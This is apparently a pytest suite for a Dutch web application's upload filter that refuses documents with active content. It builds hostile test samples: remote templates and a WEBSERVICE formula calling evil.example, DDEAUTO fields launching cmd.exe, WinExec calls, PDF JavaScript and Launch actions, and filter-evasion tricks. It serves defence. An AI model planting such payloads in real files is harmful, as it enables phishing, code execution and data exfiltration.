"""Active content in uploads (issue 9): every document that would run, call out or load from
outside when opened is refused, by evidence upload and Excel import alike, with a Dutch
reason; ordinary documents with hyperlinks, charts and images still pass."""

from __future__ import annotations

import io
import shutil
import subprocess
import zipfile
import zlib

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from weerbaar.assessments.active_content import OLE_MAGIC, ActiveContent, check
from weerbaar.assessments.models import Answer, Evidence

from .conftest import World
from .factories import open_round

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
DOCX_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/>{extra}</Types>'
)


def paragraph(*runs: str) -> str:
    return f"<w:p>{''.join(runs)}</w:p>"


def document(body: str) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W}" xmlns:r="{REL}">'
        f"<w:body>{body}</w:body></w:document>"
    ).encode()


def relationships(*rels: tuple[str, str, str]) -> bytes:
    inner = "".join(
        f'<Relationship Id="rId{n}" Type="{REL}/{kind}" Target="{target}"'
        + (' TargetMode="External"' if mode else "")
        + "/>"
        for n, (kind, target, mode) in enumerate(rels, 1)
    )
    return f'<?xml version="1.0"?><Relationships xmlns="{PKG}">{inner}</Relationships>'.encode()


def docx(
    body: str = paragraph("<w:r><w:t>Oefenverslag</w:t></w:r>"),
    *,
    types: str = "",
    parts: dict[str, bytes] | None = None,
) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", DOCX_TYPES.format(extra=types))
        archive.writestr(
            "_rels/.rels",
            f'<?xml version="1.0"?><Relationships xmlns="{PKG}"><Relationship Id="rId1" '
            f'Type="{REL}/officeDocument" Target="word/document.xml"/></Relationships>',
        )
        archive.writestr("word/document.xml", document(body))
        for name, content in (parts or {}).items():
            archive.writestr(name, content)
    return buffer.getvalue()


def field(instruction: str, *, split: bool = False) -> str:
    pieces = [instruction[:2], instruction[2:]] if split else [instruction]
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>' for p in pieces
    )
    return paragraph(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>',
        runs,
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>',
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
    )


def xlsx(formula: str | None = None, *, defined: str | None = None) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet["A1"] = "Noodstroom"
    if formula:
        sheet["B1"] = formula
    if defined:
        book.defined_names["Bron"] = openpyxl.workbook.defined_name.DefinedName(
            "Bron", attr_text=defined
        )
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def pdf(*objects: bytes, trailer: bytes = b"<< /Root 1 0 R >>") -> bytes:
    out = b"%PDF-1.7\n"
    for number, body in enumerate(objects, 1):
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    return out + b"trailer\n" + trailer + b"\n%%EOF\n"


ODF_NS = {
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "script": "urn:oasis:names:tc:opendocument:xmlns:script:1.0",
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "draw": "urn:oasis:names:tc:opendocument:xmlns:drawing:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
    "xlink": "http://www.w3.org/1999/xlink",
}


def odf_content(body: str) -> str:
    namespaces = " ".join(f'xmlns:{prefix}="{uri}"' for prefix, uri in ODF_NS.items())
    return (
        f"<office:document-content {namespaces}><office:body>{body}</office:body>"
        "</office:document-content>"
    )


def odf(body: str, parts: dict[str, str] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", odf_content(body))
        for name, content in (parts or {}).items():
            archive.writestr(name, content)
    return buffer.getvalue()


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [] /Count 0 >>"


def object_stream(content: bytes) -> bytes:
    packed = zlib.compress(b"3 0 " + content)
    return (
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
        + packed
        + b"\nendstream"
    )


HOSTILE = {
    "remote template": (
        docx(
            parts={
                "word/settings.xml": f'<w:settings xmlns:w="{W}" xmlns:r="{REL}">'
                '<w:attachedTemplate r:id="rId1"/></w:settings>'.encode(),
                "word/_rels/settings.xml.rels": relationships(
                    ("attachedTemplate", "https://evil.example/t.dotm", "External")
                ),
            }
        ),
        "haalt bij het openen iets van buiten op",
    ),
    "linked image over UNC": (
        docx(
            parts={
                "word/_rels/document.xml.rels": relationships(
                    ("image", "file://///attacker/share/a.png", "External")
                )
            }
        ),
        "haalt bij het openen iets van buiten op",
    ),
    "ActiveX control": (
        docx(
            types='<Override PartName="/word/activeX/activeX1.xml" '
            'ContentType="application/vnd.ms-office.activeX+xml"/>',
            parts={"word/activeX/activeX1.xml": b"<ax:ocx xmlns:ax='x'/>"},
        ),
        "ActiveX",
    ),
    "ActiveX by relationship only": (
        docx(
            parts={
                "word/_rels/document.xml.rels": relationships(("control", "media/ctl.xml", "")),
                "word/media/ctl.xml": b"<x/>",
            }
        ),
        "ActiveX",
    ),
    "embedded OLE object": (
        docx(
            parts={
                "word/embeddings/oleObject1.bin": OLE_MAGIC + b"\x00" * 504,
            }
        ),
        "OLE",
    ),
    "OLE object declared, neutral content": (
        docx(
            types='<Default Extension="bin" ContentType="application/vnd.openxmlformats-'
            'officedocument.oleObject"/>',
            parts={"word/embeddings/object.bin": b"not ole magic"},
        ),
        "OLE",
    ),
    "DDEAUTO field": (
        docx(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"')),
        "DDE",
    ),
    "DDEAUTO split over runs": (
        docx(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', split=True)),
        "DDE",
    ),
    "simple INCLUDETEXT field": (
        docx(paragraph('<w:fldSimple w:instr=" INCLUDETEXT &quot;http://evil/x&quot; "/>')),
        "DDE",
    ),
    "vbaProject under a neutral name": (
        docx(parts={"word/media/image7.png": OLE_MAGIC + b"\x00" * 504}),
        "OLE",
    ),
    "macro-enabled content type": (
        docx(
            types='<Override PartName="/word/foto.jpeg" '
            'ContentType="application/vnd.ms-office.vbaProject"/>',
            parts={"word/foto.jpeg": b"\xff\xd8\xff"},
        ),
        "macro",
    ),
    "WEBSERVICE formula": (xlsx('=WEBSERVICE("https://evil.example/?"&A1)'), "WEBSERVICE"),
    "DDE formula": (xlsx("=cmd|'/c calc'!A1"), "WEBSERVICE"),
    "calling defined name": (xlsx(defined='CALL("kernel32","WinExec","JCJ","calc",0)'), "DDE"),
    "PDF OpenAction JavaScript": (
        pdf(
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
            PAGES,
            b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
        ),
        "JavaScript",
    ),
    "PDF Launch": (
        pdf(
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>",
            PAGES,
        ),
        "start bij het openen een programma",
    ),
    "PDF JavaScript spelt with escapes": (
        pdf(CATALOG, PAGES, b"<< /S /J#61vaScript /J#53 (x) >>"),
        "JavaScript",
    ),
    "PDF JavaScript in a compressed object stream": (
        pdf(CATALOG, PAGES, object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>")),
        "JavaScript",
    ),
    "PDF embedded file": (
        pdf(CATALOG, PAGES, b"<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream"),
        "bijgevoegde bestanden",
    ),
    "PDF submitting a form": (
        pdf(CATALOG, PAGES, b"<< /S /SubmitForm /F (http://x) >>"),
        "formulier",
    ),
    "encrypted PDF": (
        pdf(CATALOG, PAGES, trailer=b"<< /Root 1 0 R /Encrypt 3 0 R >>"),
        "Versleutelde",
    ),
    "OpenDocument event listener": (
        odf(
            '<office:event-listeners><script:event-listener script:language="ooo:script" '
            'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Run"/>'
            "</office:event-listeners>"
        ),
        "macro",
    ),
    "OpenDocument DDE link": (odf("<table:dde-link/>"), "DDE"),
    "OpenDocument OLE object": (odf("<draw:object-ole/>"), "OLE"),
    "OpenDocument image from outside": (
        odf('<draw:image xlink:href="http://evil.example/pixel.png"/>'),
        "van buiten",
    ),
    # Found by a review: parts outside word/, prefixes and namespaces, other chunk types.
    "field in a part outside word/": (
        docx(parts={"main/doc.xml": document(field("DDEAUTO cmd.exe"))}),
        "DDE",
    ),
    "field under a non-ASCII prefix": (
        docx(
            parts={
                "word/extra.xml": (
                    f'<?xml version="1.0" encoding="UTF-8"?><ü:document xmlns:ü="{W}">'
                    '<ü:body><ü:p><ü:fldSimple ü:instr=" DDEAUTO cmd.exe "/></ü:p></ü:body>'
                    "</ü:document>"
                ).encode()
            }
        ),
        "DDE",
    ),
    "field in strict Office Open XML": (
        docx(
            parts={
                "word/extra.xml": document(field("DDEAUTO cmd.exe")).replace(
                    W.encode(), b"http://purl.oclc.org/ooxml/wordprocessingml/main"
                )
            }
        ),
        "DDE",
    ),
    "altChunk with an RTF document": (
        docx(
            parts={
                "word/_rels/document.xml.rels": relationships(("aFChunk", "chunk.rtf", "")),
                "word/chunk.rtf": rb"{\rtf1{\field{\*\fldinst DDEAUTO cmd}}}",
            }
        ),
        "OLE",
    ),
    "quoted sheet names around WEBSERVICE": (
        xlsx("='a\"b'!A1&WEBSERVICE(\"http://evil/\")&'c\"d'!A1"),
        "WEBSERVICE",
    ),
    "IMAGE from the internet": (xlsx('=_xlfn.IMAGE("https://evil.example/p.png")'), "DDE"),
    "a web query refreshed on opening": (
        docx(
            parts={
                "xl/connections.xml": b'<connections xmlns="http://schemas.openxmlformats.org/'
                b'spreadsheetml/2006/main"><connection id="1" name="q" refreshOnLoad="1">'
                b'<webPr url="http://evil.example/"/></connection></connections>'
            }
        ),
        "DDE",
    ),
    "PDF names separated by NUL": (
        pdf(CATALOG, PAGES, b"<<\x00/S\x00/JavaScript\x00/JS\x00(x)>>"),
        "JavaScript",
    ),
    "PDF object hidden in a plain stream": (
        pdf(
            CATALOG,
            PAGES,
            b"<< /Length 50 >>\nstream\n4 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\n\nendstream",
        ),
        "JavaScript",
    ),
    "PDF hex string that desynchronises": (
        pdf(b"<< /Type /Catalog /X <(> /OpenAction << /S /JavaScript /JS (x) >> /Y <)> >>", PAGES),
        "beschadigd",
    ),
    "PDF object stream without /Type": (
        pdf(
            CATALOG,
            PAGES,
            object_stream(b"<< /S /JavaScript /JS (x) >>").replace(b"/Type /ObjStm ", b""),
        ),
        "JavaScript",
    ),
    "PDF object stream inflated twice": (
        pdf(
            CATALOG,
            PAGES,
            object_stream(b"<< /S /Launch >>").replace(
                b"/Filter /FlateDecode", b"/Filter [/FlateDecode /FlateDecode]"
            ),
        ),
        "onbekende compressie",
    ),
    "OpenDocument DDE in an embedded object": (
        odf("", parts={"Object 1/content.xml": odf_content("<table:dde-link/>")}),
        "DDE",
    ),
    "OpenDocument section loaded from beside it": (
        odf('<text:section-source xlink:href="../../geheim.odt"/>'),
        "van buiten",
    ),
    "old binary Word file": (OLE_MAGIC + b"\x00" * 504, "Oude Office-bestanden"),
}


@pytest.mark.parametrize("case", list(HOSTILE), ids=list(HOSTILE))
def test_active_content_is_refused_with_a_dutch_reason(case: str) -> None:
    data, reason = HOSTILE[case]
    with pytest.raises(ActiveContent) as refused:
        check(data)
    assert reason in str(refused.value)


BENIGN = {
    "plain document": docx(),
    "external hyperlink": docx(
        paragraph('<w:hyperlink r:id="rId1"><w:r><w:t>GGD GHOR</w:t></w:r></w:hyperlink>'),
        parts={
            "word/_rels/document.xml.rels": relationships(
                ("hyperlink", "https://www.ggdghor.nl/", "External")
            )
        },
    ),
    "page number field": docx(field(" PAGE ")),
    "the word DDE in the text": docx(paragraph("<w:r><w:t>DDEAUTO en LINK uitgelegd</w:t></w:r>")),
    "chart with its workbook": docx(
        parts={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx("=SUM(1,2)")}
    ),
    "workbook with ordinary formulas": xlsx('=IF(A1="WEBSERVICE(";1;2)'),
    "a sheet called Kosten| and a column called Call (2024)": xlsx(
        "='Kosten|'!A1+SUM(Tabel1[Call (2024)])"
    ),
    "PDF with a link and a JavaScript word in text": pdf(
        CATALOG,
        PAGES,
        b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://x.nl/JavaScript) >> >>",
        b"<< /Length 24 >>\nstream\nBT (/JS /Launch) Tj ET\n\nendstream",
    ),
}


@pytest.mark.parametrize("case", list(BENIGN), ids=list(BENIGN))
def test_ordinary_documents_pass(case: str) -> None:
    check(BENIGN[case])


def test_a_report_pdf_of_our_own_passes(world: World) -> None:
    round_ = open_round(world, world.own)
    client = Client()
    client.force_login(world.alice)
    assessment = round_.assessments.get()
    response = client.get(reverse("insights:report", args=[assessment.pk]))
    assert response.status_code == 200
    check(b"".join(response.streaming_content) if response.streaming else response.content)


@pytest.fixture
def assessment(world: World, settings, tmp_path):
    settings.PRIVATE_MEDIA_ROOT = tmp_path / "private"
    return open_round(world, world.own).assessments.get()


@pytest.mark.parametrize(
    "case", ["remote template", "DDEAUTO split over runs", "PDF OpenAction JavaScript"]
)
def test_the_evidence_upload_refuses_active_content(assessment, world: World, case: str) -> None:
    data, reason = HOSTILE[case]
    client = Client()
    client.force_login(world.alice)
    name = "plan.pdf" if data.startswith(b"%PDF") else "plan.docx"
    response = client.post(
        reverse("assessments:evidence_upload", args=[assessment.pk, "CY-09"]),
        {"file": SimpleUploadedFile(name, data)},
        follow=True,
    )
    assert reason in response.content.decode()
    assert not Evidence.objects.exists()


@pytest.mark.parametrize("case", ["WEBSERVICE formula", "DDE formula"])
def test_the_excel_import_refuses_active_content(assessment, world: World, case: str) -> None:
    data, reason = HOSTILE[case]
    client = Client()
    client.force_login(world.alice)
    response = client.post(
        reverse("assessments:excel_import", args=[assessment.pk]),
        {"file": SimpleUploadedFile("antwoorden.xlsx", data)},
    )
    assert response.status_code == 400 and reason in response.content.decode()
    assert not Answer.objects.exists()


SOFFICE = shutil.which("soffice")


@pytest.mark.requires_tool(
    SOFFICE is not None,
    "LibreOffice writes real office files: apt-get install libreoffice-calc-nogui",
)
def test_workbooks_saved_by_libreoffice_pass(tmp_path) -> None:
    """What people really upload: workbooks written by an office suite, with formulas, a
    hyperlink and several sheets, as .xlsx and as .ods."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Noodstroom"
    sheet["A1"], sheet["B1"], sheet["B2"] = "Uren", 72, "=B1*2"
    sheet["A3"] = "GGD GHOR"
    sheet["A3"].hyperlink = "https://www.ggdghor.nl/"
    book.create_sheet("Brandstof")["A1"] = "=SUM(Noodstroom!B1:B2)"
    source = tmp_path / "in" / "plan.xlsx"
    source.parent.mkdir()
    book.save(source)
    for target in ("xlsx:Calc MS Excel 2007 XML", "ods"):
        subprocess.run(
            [
                str(SOFFICE),
                f"-env:UserInstallation=file://{tmp_path}/profile",
                "--headless",
                "--convert-to",
                target,
                "--outdir",
                str(tmp_path / "out"),
                str(source),
            ],
            check=True,
            capture_output=True,
            timeout=120,
        )
    for produced in ("plan.xlsx", "plan.ods"):
        data = (tmp_path / "out" / produced).read_bytes()
        assert data != source.read_bytes()
        check(data)
